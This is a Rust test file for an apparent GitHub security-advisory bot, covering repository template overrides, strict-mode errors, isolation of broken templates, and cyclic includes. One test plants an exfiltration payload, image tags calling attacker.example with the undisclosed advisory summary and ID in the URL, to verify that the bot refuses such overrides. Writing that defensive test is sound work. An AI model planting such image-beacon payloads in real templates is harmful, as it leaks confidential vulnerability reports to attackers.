//! Templates: a repository's overrides and their errors, a broken one holding back only its
//! channel, and the templates a repository cannot override.

use crate::both_stores;
use crate::common::app::{
    GHSA, REPO, TRACK_PRIVATELY, TRACKING_REPO, assert_no_unexpected, installed, report,
    the_incident, timeline_details, world,
};
use crate::common::tracking::{
    answers, command, drafts_comments, escalations, publish_approved, tracked,
};

#[tokio::test]
async fn a_repository_cannot_override_the_templates_that_carry_the_undisclosed_report() {
    let fake = world().await;
    // An image GitHub's proxy would fetch, with the report in its address.
    let leak = "<img src=\"https://attacker.example/c?s={{summary}}\">\n![x](https://attacker.example/{{ghsa_id}})\n";
    for name in ["tracking-issue.md", "prenotify.txt"] {
        fake.put_file(REPO, &format!(".github/herald/templates/{name}.hbs"), leak);
    }
    let harness = tracked(&fake).await;
    let issue = fake.issues(TRACKING_REPO)[0].body.clone();
    assert!(!issue.contains("attacker.example"), "{issue}");
    assert!(
        issue.contains("tracking-issue.md is herald's own: it carries the undisclosed report")
            && issue.contains("prenotify.txt is herald's own"),
        "{issue}"
    );
    let read: Vec<String> = fake
        .requests()
        .iter()
        .map(|request| request.path.clone())
        .filter(|path| path.contains("tracking-issue.md.hbs") || path.contains("prenotify.txt.hbs"))
        .collect();
    assert!(read.is_empty(), "not even read: {read:?}");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(repository_templates_override_the_shipped_ones_and_their_errors_are_reported);
async fn repository_templates_override_the_shipped_ones_and_their_errors_are_reported() {
    let fake = world().await;
    fake.put_file(REPO, ".github/herald.yml", TRACK_PRIVATELY);
    fake.put_file(
        REPO,
        ".github/herald/templates/announcement.txt.hbs",
        "Dear users of {{repository}}: {{summary}} ({{severity_word}}).\n",
    );
    // Strict mode: a field the record lacks is an error, never an empty gap.
    fake.put_file(
        REPO,
        ".github/herald/templates/forum-post.md.hbs",
        "{{summary}} {{no_such_field}}\n",
    );
    fake.put_file(REPO, ".github/herald/templates/bogus.hbs", "x");
    let harness = installed(&fake).await;
    report(&harness, "report-1").await;

    let review = drafts_comments(&fake);
    assert_eq!(review.len(), 1);
    let body = &review[0].body;
    assert!(
        body.contains(
            "Dear users of Codertocat/Hello-World: A short summary of the advisory. (Critical)."
        ),
        "the override renders:\n{body}"
    );
    assert!(body.contains("Template problems"), "{body}");
    assert!(body.contains("forum-post.md"), "{body}");
    assert!(
        body.contains(r"no\_such\_field") && body.contains("strict mode"),
        "{body}"
    );
    let issue = &fake.issues(TRACKING_REPO)[0];
    assert!(
        issue.body.contains("Configuration problem"),
        "{}",
        issue.body
    );
    assert!(
        issue.body.contains("bogus is not a template herald knows"),
        "{}",
        issue.body
    );
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(a_broken_template_holds_back_only_its_own_channel);
async fn a_broken_template_holds_back_only_its_own_channel() {
    let fake = world().await;
    let override_path = ".github/herald/templates/advisory-issue.md.hbs";
    fake.put_file(REPO, override_path, "{{#if summary}}\nunclosed block\n");
    let harness = publish_approved(&fake, |_| {}).await;

    assert!(the_incident(&harness).await.published_on_github());
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opens"
    );
    assert!(
        fake.issues(REPO).is_empty(),
        "the broken advisory issue does not"
    );
    let reported = escalations(&fake, &format!("advisory\\_issue for {GHSA} was refused"));
    assert_eq!(reported.len(), 1, "{:?}", answers(&fake));
    assert!(reported[0].contains("advisory-issue.md"), "{}", reported[0]);
    assert!(
        reported[0].contains("invalid handlebars syntax"),
        "{}",
        reported[0]
    );
    assert!(
        reported[0].contains(r#"in "advisory-issue.md":3:1"#),
        "{}",
        reported[0]
    );
    assert!(reported[0].contains("`/herald retry`"), "{}", reported[0]);

    // Fixed, and run again on command.
    fake.put_file(REPO, override_path, "Fixed: {{summary}}\n");
    command(&harness, "c-2", "alice", "/herald retry").await;
    let issues = fake.issues(REPO);
    assert_eq!(issues.len(), 1);
    assert!(issues[0].body.starts_with("Fixed: "), "{}", issues[0].body);
    assert!(
        timeline_details(&harness)
            .await
            .contains(&"1 failed job(s) queued again".to_owned())
    );
    assert_eq!(fake.pulls(REPO).len(), 1, "nothing else ran twice");
    assert_no_unexpected(&fake);
    harness.stop().await;
}

both_stores!(templates_that_include_each_other_are_refused_and_herald_keeps_serving);
async fn templates_that_include_each_other_are_refused_and_herald_keeps_serving() {
    let fake = world().await;
    // Rendered as they are, these two would recurse until the stack overflows.
    fake.put_file(
        REPO,
        ".github/herald/templates/advisory-issue.md.hbs",
        "x{{> forum-post.md}}",
    );
    fake.put_file(
        REPO,
        ".github/herald/templates/forum-post.md.hbs",
        "x{{> advisory-issue.md}}",
    );
    let harness = publish_approved(&fake, |_| {}).await;

    assert!(the_incident(&harness).await.published_on_github());
    assert_eq!(
        fake.pulls(REPO).len(),
        1,
        "the CHANGELOG pull request opens"
    );
    assert!(fake.issues(REPO).is_empty(), "the advisory issue does not");
    let reported = escalations(&fake, &format!("advisory\\_issue for {GHSA} was refused"));
    assert_eq!(reported.len(), 1, "{:?}", answers(&fake));
    assert!(
        reported[0].contains("advisory-issue.md → forum-post.md → advisory-issue.md"),
        "the cycle is named: {}",
        reported[0]
    );
    // The review shows what will go out: not the shipped text in place of the refused one.
    let review = drafts_comments(&fake);
    assert_eq!(review.len(), 1, "one review comment");
    let body = &review[0].body;
    assert!(
        body.contains("#### Template problems")
            && body.contains("its includes form a cycle: advisory-issue.md → forum-post.md"),
        "the review names the problem: {body}"
    );
    for withheld in ["advisory-issue.md", "forum-post.md"] {
        assert!(
            !body.contains(&format!("<summary>{withheld}</summary>")),
            "{withheld} is withheld: {body}"
        );
    }
    assert!(
        body.contains("<summary>announcement.txt</summary>"),
        "{body}"
    );
    // Still serving: the next command is answered.
    command(&harness, "c-after", "alice", "/herald help").await;
    assert!(
        answers(&fake)
            .iter()
            .any(|answer| answer.body.contains("/herald close")),
        "herald still answers"
    );
    harness.stop().await;
}
